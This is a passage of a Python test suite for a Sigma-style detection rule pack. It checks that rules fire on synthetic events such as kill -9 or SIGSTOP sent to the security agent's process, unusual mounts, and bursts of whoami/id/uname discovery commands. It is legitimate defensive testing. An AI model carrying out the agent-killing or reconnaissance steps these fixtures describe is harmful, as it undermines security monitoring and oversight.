        [Mount(agent="h", pid=300, image="/bin/mount", call="mount", source="/dev/sda1", target="/mnt",
               fstype="ext4"),
         Mount(agent="h", pid=300, image="/bin/mount", call="mount", source="tmpfs", target="/run/x",
               fstype="tmpfs", container="3f2a")]),
    "Signal Sent to the Agent": (
        [Signal(agent="h", pid=300, image="/usr/bin/kill", signal=9, target_pid=77, target_comm="immune-node"),
         Signal(agent="h", pid=300, image="/usr/bin/pkill", signal=19, target_pid=77)],
        [Signal(agent="h", pid=1, image="/lib/systemd/systemd", signal=15, target_pid=77),
         Signal(agent="h", pid=300, image="/usr/bin/kill", signal=10, target_pid=77)]),
}))

DISCOVERY = [f"/usr/bin/{tool}" for tool in ("whoami", "id", "uname", "hostname", "ps")]

CORRELATION_CASES = {
    "557ec63a-6218-4de0-a829-b1132da4a0e5": (  # burst of discovery commands
        [[run(image, image.rsplit("/", 1)[1], ppid=77) for image in DISCOVERY]],
        [[run(image, image.rsplit("/", 1)[1], ppid=77) for image in DISCOVERY[:4]] * 3,
         [run(image, image.rsplit("/", 1)[1], ppid=77 + n) for n, image in enumerate(DISCOVERY)]]),
}


def matches(rule, event) -> bool:
    """The rule's verdict on a wire event, through the field mapping and the index."""
    for category, fields in sigma_events(event):
        if category == rule.category:
            view = SigmaEvent(category, fields, event)
            if rule in RULES.index.candidates(view) and rule.match(view):
                return True
    return False


class Clock:
    now = 0.0

    def __call__(self) -> float:
        return self.now


def alerts_for(events) -> list:
    clock = Clock()
    engine = RuleEngine(clock=clock)
    engine.load(BUILTIN_RULES)
    alerts = []
    for event in events:
        clock.now += 1
        alerts.extend(a for a in engine.process(event) if isinstance(a, Alert))  # not repeats
    return alerts


def test_the_pack_loads_completely():
    report = check_rules(BUILTIN_RULES)
    assert report.ok, report.format()
    assert len(report.rules) >= 20


def test_every_rule_has_cases():
    assert set(DETECTION) == set(CASES), "rules without cases, or cases without rules"
    assert set(CORRELATION) == set(CORRELATION_CASES)


@pytest.mark.parametrize("rule_id", sorted(DETECTION))
def test_rule_metadata(rule_id):
    rule = DETECTION[rule_id]
    assert uuid.UUID(rule.id).version == 4
    assert rule.author == "SENTINEL IMMUNE"
    assert rule.level in ("informational", "low", "medium", "high", "critical")
    assert rule.description
    assert any(t.startswith("attack.t") for t in rule.tags), rule.tags
    assert any(t.startswith("attack.") and not t.startswith("attack.t") for t in rule.tags)


@pytest.mark.parametrize("rule_id", sorted(DETECTION))
def test_true_positives(rule_id):
    rule = DETECTION[rule_id]
    positives, _ = CASES[rule_id]
    assert positives
    for event in positives:
        assert matches(rule, event), event


@pytest.mark.parametrize("rule_id", sorted(DETECTION))
def test_true_negatives(rule_id):
    rule = DETECTION[rule_id]
    _, negatives = CASES[rule_id]
    assert negatives
    for event in negatives:
        assert not matches(rule, event), event


@pytest.mark.parametrize("rule_id", sorted(DETECTION))
def test_positives_raise_their_alert_unless_only_correlated(rule_id):
    positives, _ = CASES[rule_id]
    raised = {a.rule_id for a in alerts_for(positives[:1])}
    assert (rule_id in raised) is (rule_id not in RULES.silent)


@pytest.mark.parametrize("rule_id", sorted(CORRELATION))
def test_correlation_cases(rule_id):
    positives, negatives = CORRELATION_CASES[rule_id]
    for sequence in positives:
        assert rule_id in {a.rule_id for a in alerts_for(sequence)}
    for sequence in negatives:
        assert rule_id not in {a.rule_id for a in alerts_for(sequence)}
